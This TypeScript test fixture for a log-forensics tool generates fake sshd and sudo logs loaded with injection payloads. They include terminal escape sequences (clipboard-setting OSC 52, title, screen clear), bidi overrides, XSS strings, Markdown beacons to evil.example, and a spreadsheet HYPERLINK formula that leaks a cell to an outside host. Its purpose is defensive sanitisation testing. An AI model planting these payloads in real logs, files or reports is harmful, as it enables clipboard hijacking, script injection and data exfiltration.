/**
 * The hostile corpus of the trust tests, generated here (never read from ../shared): log lines
 * whose content attacks what dwell writes — terminal escape sequences (OSC 52 sets the clipboard,
 * OSC 0 the window title, CSI clears the screen, 8-bit C1 CSI), bidi overrides, spreadsheet
 * formulas, HTML, Markdown images and links, bare URLs and e-mail addresses — in user names (which
 * reach the findings report) and in a command line; and an evidence file whose very name carries
 * an escape sequence and a bidi override.
 */
import { mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'vitest';
import { dwell } from '../helpers/cli.js';

export const OSC52 = '\x1b]52;c;ZXZpbA==\x07';
export const TITLE = '\x1b]0;pwned\x07';
export const CSI = '\x1b[2J';
export const C1_CSI = '\u009b31m';
export const BIDI = '\u202e';
export const IMG = '<img src=x onerror=alert(1)>';
export const MD_IMAGE = '![t](http://beacon.example/b.png)';
export const MD_LINK = '[click](http://evil.example/)';
export const SCRIPT = '<script>alert(1)</script>';
export const FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")';

/** User names the attacker chose (each reaches the timeline and the report). */
export const HOSTILE_USERS = [IMG, MD_IMAGE, `${OSC52}clip`, `${TITLE}title`, `adm${BIDI}nimda`, FORMULA, '@SUM(1,2)', '－1+2', `${CSI}cls`];

/** Characters that must never reach a terminal from evidence. */
export const TERMINAL_UNSAFE = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

export const ATTACKER_IP = '198.51.100.66';
export const HOSTILE_FILE_NAME = `name-${TITLE}-${BIDI}.log`;

export interface HostileEvidence {
  /** The folder given to ingest (named `evidence`, like a Parquet export's table). */
  root: string;
  /** The main log file. */
  authLog: string;
  /** The file whose name is hostile. */
  oddName: string;
}

export function writeHostileEvidence(dir: string): HostileEvidence {
  const root = join(dir, 'evidence');
  const host = join(root, 'web-01');
  mkdirSync(host, { recursive: true });
  const lines = HOSTILE_USERS.map((u, i) => `Jan  3 10:00:${String(i + 1).padStart(2, '0')} web-01 sshd[${100 + i}]: Invalid user ${u} from ${ATTACKER_IP} port ${40000 + i}`);
  lines.push(
    `Jan  3 10:00:30 web-01 sshd[200]: Accepted password for ${MD_LINK} from ${ATTACKER_IP} port 40100 ssh2`,
    `Jan  3 10:00:31 web-01 sshd[201]: Accepted password for deploy from ${ATTACKER_IP} port 40101 ssh2`,
    `Jan  3 10:00:32 web-01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/echo ${SCRIPT} www.evil.example ops@evil.example.com ${C1_CSI} ${OSC52}`,
  );
  const authLog = join(host, 'auth.log');
  writeFileSync(authLog, lines.join('\n') + '\n');
  const oddName = join(host, HOSTILE_FILE_NAME);
  writeFileSync(oddName, `Jan  3 10:01:00 web-01 sshd[300]: Invalid user ${TITLE}x from ${ATTACKER_IP} port 40200\n`);
  return { root, authLog, oddName };
}

/** The hostile evidence ingested into `dir/case.duckdb` and correlated from the attacker's address. */
export async function hostileCase(dir: string): Promise<HostileEvidence & { casePath: string }> {
  const ev = writeHostileEvidence(dir);
  const casePath = join(dir, 'case.duckdb');
  const ing = await dwell(['ingest', '--year', '2026', '--case', casePath, '-q', ev.root]);
  expect(ing.code, ing.stderr).toBe(0);
  const cor = await dwell(['correlate', '--case', casePath, '--seed', `ip:${ATTACKER_IP}`, '--detected-at', '2026-01-03T12:00:00Z']);
  expect(cor.code, cor.stderr).toBe(0);
  return { ...ev, casePath };
}

/** Size, modification time and content of a file: compared before and after, nothing may change. */
export function fingerprint(path: string): { bytes: string; mtimeMs: number; size: number } {
  const st = statSync(path);
  return { bytes: readFileSync(path).toString('base64'), mtimeMs: st.mtimeMs, size: st.size };
}
